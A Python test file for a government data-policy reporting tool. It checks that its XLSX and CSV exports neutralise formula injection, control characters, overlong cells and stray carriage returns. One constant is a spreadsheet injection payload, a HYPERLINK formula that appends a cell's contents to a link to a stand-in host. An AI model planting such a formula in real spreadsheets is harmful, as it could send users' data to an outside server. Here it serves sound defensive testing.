"""Text from the log in files a spreadsheet opens: shown, never run; never a crash.

An audit posing as a compliance officer found a party named ``=HYPERLINK(...)`` stored as a live
formula in the workbook and the CSV, a control character that made the whole workbook fail
(exit 3, no file), and C4 duties counted as "on time" in one breakdown of the rate but not the other.
"""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

import govdata_policy as gp
from govdata_policy.cli.app import app
from govdata_policy.report.summary import on_time

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"click")'


def _log(tmp_path: Path, case_id: str, provider: str) -> Path:
    path = tmp_path / "log.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        import csv

        writer = csv.writer(handle)
        writer.writerow(["case_id", "event", "time", "provider", "category"])
        writer.writerow([case_id, "share.requested", "2025-05-26 09:00", provider, "conditional"])
    return path


def test_a_formula_in_the_log_is_text_in_the_workbook(tmp_path: Path) -> None:
    log = _log(tmp_path, FORMULA, "=1+1\x0b市卫健委" + "长" * 40_000)
    out = tmp_path / "r.xlsx"
    outcome = runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31",
                                  "--format", "xlsx", "-o", str(out)])
    assert outcome.exit_code == 1, outcome.output  # a violation (overdue reply), and the file written
    book = load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert FORMULA in values  # the text exactly, as text
    party = next(v for v in values if v.startswith("=1+1"))
    assert party.startswith("=1+1\ufffd市卫健委") and len(party) == 32_767 and party.endswith("…")


def test_a_formula_in_the_log_gets_a_quote_in_the_csv(tmp_path: Path) -> None:
    log = _log(tmp_path, FORMULA, "+1+1")
    out = tmp_path / "v.csv"
    runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "--format", "csv",
                        "-o", str(out)])
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfrule_id,")  # the UTF-8 mark Excel needs to read Chinese text
    text = data.decode("utf-8-sig")
    assert "\"'=HYPERLINK(\"\"http" in text and ",'+1+1," in text
    assert "\n=" not in text and ",=" not in text and ",+" not in text
    piped = runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "--format", "csv"])
    assert piped.stdout.startswith("rule_id,")  # no mark on standard output


def test_on_time_rates_by_month_and_by_process_count_the_same_obligations() -> None:
    """Presence-only duties (C4: no due date) are in neither breakdown (Yongzhou 31 and 33 were
    100 % "on time" by process)."""
    result = gp.load_jurisdiction("yongzhou").evaluate(ROOT / "examples" / "yongzhou.csv", as_of="2025-12-31")
    by_month, by_topic = on_time(result, "en")
    with_due = result.obligations[result.obligations["due"].notna()
                                  & result.obligations["status"].isin(["met", "late", "overdue"])]
    assert sum(r["total"] for r in by_month) == sum(r["total"] for r in by_topic) == len(with_due)
    assert "security" not in {r["label"] for r in by_topic}


def test_html_without_output_is_refused_before_the_check(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-log.csv"  # never read: the usage error comes first
    outcome = runner.invoke(app, ["check", str(missing), "-j", "yongzhou", "--format", "html"])
    assert outcome.exit_code == 2 and "--format html 会写出文件：请用 -o 给出文件路径" in outcome.stderr


def test_the_wide_table_keeps_case_ids_whole(tmp_path: Path) -> None:
    ids = ["3f2504e0-4f89-11d3-9a0c-0305e82c3301", "3f2504e0-4f89-11d3-9a0c-0305e82c3302"]
    path = tmp_path / "log.csv"
    path.write_text("case_id,event,time,provider,category\n" + "".join(
        f"{i},share.requested,2025-05-26 09:00,市公安局,conditional\n" for i in ids), encoding="utf-8")
    out = tmp_path / "table.txt"
    runner.invoke(app, ["check", str(path), "-j", "yongzhou", "--as-of", "2025-12-31", "-o", str(out)])
    lines = [line.split("│") for line in out.read_text(encoding="utf-8").splitlines() if line.startswith("│")]
    case_column = "".join(parts[3].strip() for parts in lines if len(parts) > 9)  # folded, read back in order
    assert "…" not in case_column
    for case_id in ids:
        assert case_id in case_column


def test_the_rows_written_as_xml_read_back_as_openpyxl_writes_them(tmp_path: Path) -> None:
    """report.xlsx_rows writes the data rows as text (openpyxl's cell objects took 45 s for 82,000
    violations): each kind of value reads back as the same cells written by openpyxl itself."""
    import datetime as dt

    from openpyxl import Workbook

    from govdata_policy.report.xlsx import DATETIME_FORMAT, PendingRows, SheetWriter
    from govdata_policy.report.xlsx_rows import clean_text, save_with_rows

    columns = [
        ["a & b < c > d", "  leading and trailing  ", "line\r\nbreak\tand tab", FORMULA, "", "U+FFFE \ufffe here"],
        [3, 2.5, float("nan"), True, None, -0.1],
        [dt.datetime(2024, 5, 6, 9, 0, 1), None, dt.datetime(1999, 12, 31, 23, 59, 59), None, None, None],
        [None, "text among times", dt.datetime(2024, 5, 6), None, None, None],  # a column without a format
    ]
    pending = PendingRows()
    book = Workbook(write_only=True)
    SheetWriter(book, "rows", ["text", "number", "time", "mixed"], pending).write(columns, {2: DATETIME_FORMAT})
    ours = tmp_path / "ours.xlsx"
    save_with_rows(book, ours, pending)
    pending.close()
    # the same cells through openpyxl's own writer (a normal workbook): values, types and formats
    theirs_book = Workbook()
    sheet = theirs_book.active
    for r in range(len(columns[0])):
        for c, column in enumerate(columns):
            value = column[r]
            if value is None or (isinstance(value, str) and value == ""):
                continue
            # openpyxl itself fails on U+FFFE (the whole report was lost, exit 3): given it as shown
            shown = clean_text(value).replace("\ufffe", "\ufffd") if isinstance(value, str) else value
            cell = sheet.cell(row=r + 2, column=c + 1, value=shown)
            if isinstance(value, str):
                cell.data_type = "s"
            if isinstance(value, dt.datetime):
                cell.number_format = DATETIME_FORMAT
    theirs = tmp_path / "theirs.xlsx"
    theirs_book.save(theirs)
    got = load_workbook(ours)["rows"]
    expected = load_workbook(theirs).active
    for r in range(2, len(columns[0]) + 2):
        for c in range(1, len(columns) + 1):
            mine, reference = got.cell(row=r, column=c), expected.cell(row=r, column=c)
            assert (mine.value, mine.number_format) == (reference.value, reference.number_format), (r, c)
            if reference.value is not None:  # an empty text is an empty inline string, as openpyxl's write-only
                assert mine.data_type == reference.data_type, (r, c)
    assert got.cell(row=7, column=1).value == "U+FFFE \ufffd here"  # what XML cannot hold is shown as U+FFFD


def test_a_carriage_return_in_a_cell_keeps_the_csv_row_whole(tmp_path: Path) -> None:
    """A party named ``a\\rb`` (a JSON Lines ``\\r`` escape, a cell of an Excel export) was written bare:
    Python's csv module on 3.11, as pandas' ``to_csv``, quotes a cell for the line end it writes (``\\n``)
    but not for a lone CR, and every reader (Python's csv, pandas, Excel) ends the row there, so the
    message and the columns after it were read as a row of their own."""
    import csv
    import io
    import json

    log = tmp_path / "log.jsonl"
    log.write_text(json.dumps({"case_id": "CR-1", "event": "share.requested", "time": "2025-05-26 09:00",
                               "provider": "市卫健委\r信息科", "category": "conditional"}) + "\n", encoding="utf-8")
    out = tmp_path / "v.csv"
    outcome = runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "--format", "csv",
                                  "-o", str(out)])
    assert outcome.exit_code == 1, outcome.output
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 and rows[0]["responsible_party"] == "市卫健委\r信息科"
    assert rows[0]["penalty_clause"] == "38.8"


def test_a_cell_is_cut_at_excels_limit_as_excel_counts_it(tmp_path: Path) -> None:
    """Excel's 32,767 characters in a cell are UTF-16 code units: an emoji is two (LEN("😀") = 2). The cut
    counted Python characters, so a party of 20,000 emoji (40,000 units) was written whole, past what Excel
    holds. Found by the reports audit."""
    from govdata_policy.report.xlsx_rows import clean_text

    def units(text: str) -> int:
        return len(text.encode("utf-16-le")) // 2

    cut = clean_text("😀" * 20_000)
    assert units(cut) == 32_767 and cut == "😀" * 16_383 + "…"
    assert clean_text("😀" * 16_383) == "😀" * 16_383  # 32,766 units: whole
    odd = clean_text("a" + "😀" * 16_383 + "b")  # 32,768 units: no emoji cut in two
    assert odd == "a" + "😀" * 16_382 + "…" and units(odd) == 32_766
    log = _log(tmp_path, "C1", "市卫健委" + "😀" * 20_000)
    out = tmp_path / "r.xlsx"
    runner.invoke(app, ["check", str(log), "-j", "yongzhou", "--as-of", "2025-12-31", "-o", str(out)])
    values = [c.value for sheet in load_workbook(out) for row in sheet.iter_rows() for c in row]
    party = next(v for v in values if isinstance(v, str) and v.startswith("市卫健委😀"))
    assert units(party) == 32_767 and party.endswith("😀…")
